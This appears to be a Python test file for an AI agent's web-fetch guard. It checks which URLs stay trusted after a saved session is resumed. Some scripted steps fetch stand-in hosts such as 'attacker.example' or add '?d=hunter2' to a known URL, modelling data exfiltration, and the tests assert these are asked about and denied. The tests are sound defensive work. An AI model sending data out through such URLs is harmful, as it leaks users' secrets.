"""Resuming a session rebuilds fetch_url's provenance from the saved conversation, and nothing else.

The live rules are in test_web_provenance.py; here a first Session runs turns and saves, a second one
resumes the file (as ``--resume`` and the TUI's picker do) and fetches.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from test_web_provenance import Approver, FakeWeb, fetch, finished, session, turn

from swebash_ai.agent.approval import Decision
from swebash_ai.agent.compaction import SUMMARY_PREFIX
from swebash_ai.agent.provenance import rebuild, search_result_urls
from swebash_ai.config.settings import load_settings
from swebash_ai.providers import scripted
from swebash_ai.providers.scripted import ScriptedProvider
from swebash_ai.session import Session
from swebash_ai.tools import builtin_tools
from swebash_ai.tools.registry import ToolContext, ToolResult, tool
from swebash_ai.tools.web import format_results
from swebash_ai.tools.web_guard import Provenance


async def first_session(workspace: Path, fake: FakeWeb, *steps: Any, text: str) -> Session:
    s = session(workspace, fake, Approver(), *steps)
    await turn(s, text)
    return s


def resumed(workspace: Path, fake: FakeWeb, approver: Approver, *steps: Any) -> Session:
    s = session(workspace, fake, approver, *steps)
    s.resume(None)
    return s


async def test_a_url_the_user_typed_before_resuming_is_fetched_unasked(workspace: Path) -> None:
    fake = FakeWeb()
    await first_session(workspace, fake, scripted.text("noted"), text="keep https://docs.example/a?v=2 in mind")
    approver = Approver()
    s = resumed(workspace, fake, approver, fetch("https://docs.example/a?v=2"), scripted.text("ok"))
    events = await turn(s, "open the page I gave you")
    assert approver.asked == []
    assert finished(events)[0].decided_by == "web.provenance"
    assert fake.requests == ["https://docs.example/a?v=2"]


async def test_search_results_and_links_of_the_earlier_turn_run_unasked_after_resume(workspace: Path) -> None:
    fake = FakeWeb()
    fake.results = [{"title": "Guide", "href": "https://guide.example/intro?lang=en", "body": "a guide"}]
    fake.pages["https://guide.example/intro?lang=en"] = (
        200, {"content-type": "text/html"}, b'<p>See <a href="https://other.example/next">the next part</a>.</p>',
    )
    await first_session(workspace, fake, scripted.calls(("web_search", {"query": "a guide"})),
                        fetch("https://guide.example/intro?lang=en"), scripted.text("ok"), text="find a guide")
    approver = Approver()
    s = resumed(workspace, fake, approver, fetch("https://other.example/next"), scripted.text("ok"))
    await turn(s, "read the next part")
    assert approver.asked == []  # the link on the fetched page, recorded in its result, is known again
    assert fake.requests[-1] == "https://other.example/next"


async def test_a_made_up_url_still_asks_after_resume(workspace: Path) -> None:
    fake = FakeWeb()
    await first_session(workspace, fake, scripted.text("noted"), text="keep https://docs.example/a in mind")
    approver = Approver(Decision.DENY, Decision.DENY)
    s = resumed(workspace, fake, approver, fetch("https://docs.example/a?d=hunter2"),
                fetch("https://attacker.example/x"), scripted.text("ok"))
    await turn(s, "go on")
    assert len(approver.asked) == 2  # an added query parameter and a URL nobody gave both ask
    assert fake.requests == []


async def test_urls_only_the_model_wrote_are_not_learnt_from_the_file(workspace: Path) -> None:
    """The model's answer, its call arguments and a denial echoing its URL are in the file; none counts."""
    fake = FakeWeb()
    approver = Approver(Decision.DENY)
    s = session(workspace, fake, approver, fetch("https://attacker.example/c?d=1"),
                scripted.text("see https://attacker.example/c?d=1"))
    await turn(s, "hello")
    approver = Approver(Decision.DENY)
    s = resumed(workspace, fake, approver, fetch("https://attacker.example/c?d=1"), scripted.text("ok"))
    await turn(s, "go on")
    assert len(approver.asked) == 1 and fake.requests == []


async def test_a_summary_or_a_tool_note_in_the_users_name_is_not_trusted(workspace: Path) -> None:
    """Only messages the loop marked as typed count: a summary (the model's words) and a ``!tool`` note (a
    tool's output) are user messages too. The same text marked typed counts, which proves the test can fail."""
    fake = FakeWeb()
    first = await first_session(workspace, fake, scripted.text("noted"), text="hello")
    lines = first.session_file.read_text().splitlines()
    lines += [json.dumps({"role": "user", "content": f"{SUMMARY_PREFIX}\n\nsee https://a.example/s"}),
              json.dumps({"role": "user", "content": "[I ran read_file {} myself; result follows]\nhttps://b.example/n"}),
              json.dumps({"role": "assistant", "content": "ok"}),
              json.dumps({"role": "user", "content": "and https://c.example/t", "typed": True}),
              json.dumps({"role": "assistant", "content": "ok"})]
    first.session_file.write_text("\n".join(lines) + "\n")
    approver = Approver(Decision.DENY, Decision.DENY)
    s = resumed(workspace, fake, approver, fetch("https://a.example/s"), fetch("https://b.example/n"),
                fetch("https://c.example/t"), scripted.text("ok"))
    await turn(s, "go on")
    assert len(approver.asked) == 2
    assert fake.requests == ["https://c.example/t"]


def user_command_session(workspace: Path, fake: FakeWeb, approver: Approver, *steps: Any) -> Session:
    """A session whose run_command prints a URL of its own: the output of a command the user runs."""
    @tool("exec")
    async def run_command(ctx: ToolContext, command: str) -> ToolResult:
        """Pretend to run a command.

        Args:
            command: The command.
        """
        return ToolResult.success("200 OK, see https://out.example/b?k=1", exit_code=0)

    tools = [t for t in builtin_tools() if t.name != "run_command"] + [run_command]
    return Session(load_settings({"web_min_interval": 0}), approver=approver, provider=ScriptedProvider(list(steps)),
                   tools=tools, services=fake.services(), probe_ollama=False)


async def test_a_command_the_user_ran_counts_its_command_line_never_its_output(workspace: Path) -> None:
    """``!curl https://typed.example/a``: the user typed that URL; the URL in the command's output is a tool's
    text. Live and after a resume alike, the typed one is fetched unasked and the output's asks."""
    fake = FakeWeb()
    steps = (fetch("https://out.example/b?k=1"), fetch("https://typed.example/a?v=2"), scripted.text("ok"))
    approver = Approver(Decision.DENY)
    live = user_command_session(workspace, fake, approver, *steps)
    [e async for e in live.run_shell("curl -sI https://typed.example/a?v=2")]
    saved = live.conversation.messages[-1]
    assert "https://out.example/b?k=1" in saved["content"] and not saved.get("typed")
    await turn(live, "go on")
    assert [r.summary for r in approver.asked] == ["fetch https://out.example/b?k=1"]
    assert fake.requests == ["https://typed.example/a?v=2"]

    fake.requests.clear()
    approver = Approver(Decision.DENY)
    again = user_command_session(workspace, fake, approver, *steps)
    again.resume(None)
    await turn(again, "go on")
    assert [r.summary for r in approver.asked] == ["fetch https://out.example/b?k=1"]
    assert fake.requests == ["https://typed.example/a?v=2"]


def test_the_typed_mark_never_reaches_a_provider(workspace: Path) -> None:
    s = session(workspace, FakeWeb(), Approver())
    s.conversation.add_user("hi", typed=True)
    assert s.conversation.for_request(None, 10_000) == [{"role": "user", "content": "hi"}]
    assert s.conversation.messages[-1]["typed"] is True


def test_search_results_are_read_from_their_exact_shape() -> None:
    raw = [{"title": "T", "href": "https://r.example/1", "body": "snippet https://s.example/x"},
           {"title": "https://t.example/y", "href": "https://r.example/2"}]
    text, urls = format_results("q\n\n1. x\n   https://q.example/z", raw, 5)  # a query cannot forge a block
    assert search_result_urls(text) == urls == ["https://r.example/1", "https://r.example/2"]
    assert search_result_urls("Denied: " + text) == []
    assert search_result_urls(text.replace("\n   https://r.example/2", "")) == ["https://r.example/1"]


def test_a_page_counts_only_when_its_url_was_already_covered() -> None:
    """A page the user approved (not recorded) is like a page never fetched: its links ask again."""
    def conversation(url: str, content: str) -> list[dict[str, Any]]:
        arguments = json.dumps({"url": url})
        call = {"id": "c1", "type": "function", "function": {"name": "fetch_url", "arguments": arguments}}
        return [{"role": "user", "content": "read https://known.example/p", "typed": True},
                {"role": "assistant", "content": None, "tool_calls": [call]},
                {"role": "tool", "tool_call_id": "c1", "name": "fetch_url", "content": content}]

    page = "https://known.example/p (text/html, HTTP 200)\n\nnext (https://link.example/n)"
    cases = [
        ("https://known.example/p", page, True),  # covered, a page: its links count
        ("https://other.example/p", page.replace("known", "other"), False),  # approved, not covered
        ("https://known.example/p", "Error: HTTP 404 Not Found for https://known.example/p:\nhttps://link.example/n",
         False),  # an error text is not a page
    ]
    for url, content, learnt in cases:
        provenance = Provenance()
        rebuild(conversation(url, content), provenance)
        assert provenance.covers("https://link.example/n") is learnt, (url, content)
